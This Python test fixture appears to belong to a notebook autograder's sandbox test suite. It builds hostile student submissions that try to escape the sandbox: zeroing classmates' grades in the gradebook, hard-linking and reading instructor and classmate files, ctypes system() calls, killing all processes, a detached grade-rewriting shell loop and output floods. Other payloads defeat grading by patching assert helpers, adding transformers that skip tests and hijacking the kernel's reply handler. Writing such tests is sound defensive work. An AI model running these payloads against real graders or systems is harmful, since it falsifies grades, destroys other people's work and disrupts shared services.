"""The hostile submissions: code that really runs each attack of issues 12 and 13 from a graded notebook.

Each function returns the source of a cell to add to a submission of the fixture module 02 (see
conftest). Paths outside the sandbox are passed in as absolute paths, so an attack would succeed
if the sandbox did not hold; each attempt prints `DONE what: result` or `BLOCKED what: error`.
"""
from __future__ import annotations

PRELUDE = '''
import ctypes, os
found = []
def attempt(what, action):
    try:
        found.append(f"DONE {what}: {str(action())[:300]}")
    except Exception as error:
        found.append(f"BLOCKED {what}: {type(error).__name__}: {error}")
libc = ctypes.CDLL(None, use_errno=True)
def checked(result, call):
    if result != 0:
        raise OSError(ctypes.get_errno(), f"{call} failed")
    return result
'''


def escaper(source: str, gradebook: str, classmate: str, submissions: str, escape: str) -> str:
    """Issue 13: the warm process's socket, a hard link to the course source, the gradebook through
    sqlite3, reads of a classmate and of the instructor source, /proc, ctypes system() and open()."""
    return PRELUDE + f'''
import glob, json, socket, sqlite3
def ask_the_warm_process():
    paths = [os.environ.get("TITO_KERNEL_ZYGOTE", "")] + glob.glob("/tmp/**/*.sock", recursive=True) \\
        + glob.glob("/tito/**/*.sock", recursive=True)
    for path in filter(None, paths):
        conn = socket.socket(socket.AF_UNIX)
        conn.connect(path)
        conn.sendall(json.dumps({{"cwd": "/", "env": {{}}, "connection_file": "/x",
                                 "argv": ["--allow-subprocesses"]}}).encode() + b"\\n")
        return conn.recv(100)
    raise FileNotFoundError("no socket of the warm process is visible")
attempt("warm process", ask_the_warm_process)
def link_then_write():
    os.link({source!r}, "linked.py")
    with open("linked.py", "a") as handle:
        handle.write("# tampered through a hard link\\n")
attempt("hard link", link_then_write)
attempt("hard link via ctypes", lambda: checked(libc.link({source!r}.encode(), b"linked2.py"), "link"))
def zero_the_classmates():
    for path in ({gradebook!r}, "../../../gradebook.db", "../gradebook.db"):
        if os.path.exists(path):
            db = sqlite3.connect(path)
            db.execute("UPDATE grade SET auto_score = 0")
            db.commit()
            return path
    raise FileNotFoundError("no gradebook is visible")
attempt("gradebook", zero_the_classmates)
attempt("read classmate", lambda: open({classmate!r}).read())
attempt("read instructor source", lambda: open({source!r}).read())
attempt("list submissions", lambda: os.listdir({submissions!r}))
attempt("processes", lambda: sorted(open(f"/proc/{{p}}/cmdline").read().replace("\\0", " ")
                                      for p in os.listdir("/proc") if p.isdigit()))
attempt("ctypes system", lambda: checked(libc.system("echo escaped > {escape}/system.txt".encode()), "system"))
attempt("ctypes open", lambda: checked(int(libc.open("{escape}/open.txt".encode(), 0o101, 0o644) < 0), "open"))
print("\\n".join(found))
'''


def killer(marker: str, grades_csv: str) -> str:
    """Issue 13: SIGKILL to every process it can name (the kernels graded beside it, the grader), and a
    detached process, started behind the audit hook's back, that keeps rewriting grades.csv."""
    return PRELUDE + f'''
signals = [libc.kill(pid, 9) for pid in range(2, 4096)]
attempt("kill -1", lambda: checked(libc.kill(-1, 9), "kill(-1)"))
attempt("kill every /proc entry", lambda: [libc.kill(int(p), 9) for p in os.listdir("/proc") if p.isdigit() and p != "1"])
def detach_with_fork_exec():
    import _posixsubprocess
    command = b"while true; do echo student,54 > {grades_csv}; sleep 0.2; done # {marker}"
    read, write = os.pipe()
    return _posixsubprocess.fork_exec([b"/bin/sh", b"-c", command], [b"/bin/sh"], True, (), None, None,
                                      -1, -1, -1, -1, -1, -1, read, write, True, True, -1, None, None, None, -1,
                                      None, False)
attempt("detached process (fork_exec)", detach_with_fork_exec)
def detach():
    command = b"while true; do echo student,54 > {grades_csv}; sleep 0.2; done # {marker}"
    child = libc.fork()
    if child == 0:
        libc.setsid()
        argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", command, None)
        libc.execv(b"/bin/sh", argv)
        libc._exit(127)
    return child
attempt("detached process", detach)
print("\\n".join(found))
'''


def flooder() -> str:
    """Issue 13: 64 MB of files in its folder, a gigabyte of printed output, 50 MB written to stdout's
    descriptor."""
    return '''
import os
try:
    with open("filler.bin", "wb") as handle:
        for _ in range(64):
            handle.write(b"z" * 2**20)
except OSError as error:
    print("disk full:", error.errno)
for _ in range(1000):
    print("x" * 1_000_000)
os.write(1, b"y" * 50_000_000)
'''


# The kernel's own cap on printed output undone, then one 60 MB message: the grader must not take it in.
BYPASS = "import sys\nsys.stdout.write = type(sys.stdout).write.__get__(sys.stdout)\nprint('x' * 60_000_000)"
SLEEPER = "import time\ntime.sleep(2.5)"
UNINTERRUPTIBLE = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"

# Issue 12.3: code that rewrites the tests on their way in, or the helpers they call.
INPUT_TRANSFORMER = '''
def every_cell_passes(lines):
    return ["pass\\n"]
get_ipython().input_transformers_post.append(every_cell_passes)
'''
AST_TRANSFORMER = '''
import ast
class SwallowErrors(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(ast.Module(body=body, type_ignores=[]))
get_ipython().ast_transformers.append(SwallowErrors())
'''
TRACER = '''
import linecache, sys
def skip_asserts(frame, event, arg):
    if event == "line":
        line = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if line.startswith("assert") or line.startswith("np.testing") or line.startswith("unittest"):
            frame.f_lineno = frame.f_lineno + 1
    return skip_asserts
def tracer(frame, event, arg):
    return skip_asserts if frame.f_code.co_name.startswith("test") else None
sys.settrace(tracer)
'''
PATCHER = '''
import builtins, math, unittest
import numpy as np
import numpy.testing
math.isclose = lambda *args, **kwargs: True
math.isnan = lambda value: True
np.testing.assert_allclose.__code__ = (lambda *args, **kwargs: None).__code__
numpy.testing.assert_allclose = lambda *args, **kwargs: None
unittest.TestCase.assertEqual = lambda self, first, second, msg=None: None
builtins.abs = lambda value: 0.0
isinstance = lambda obj, kind: True
def close(a, b, tol=1e-9):
    return True
'''
IMPORTER = "from tinytorch.fixture.checks import *"
HIJACK = '''
kernel = get_ipython().kernel
def fake(stream, ident, parent):
    kernel.session.send(stream, "tito_cell_reply", {"status": "ok", "flags": []}, parent, ident=ident)
kernel.shell_handlers["tito_cell_request"] = fake
'''
WRONG = "    return 0.5"
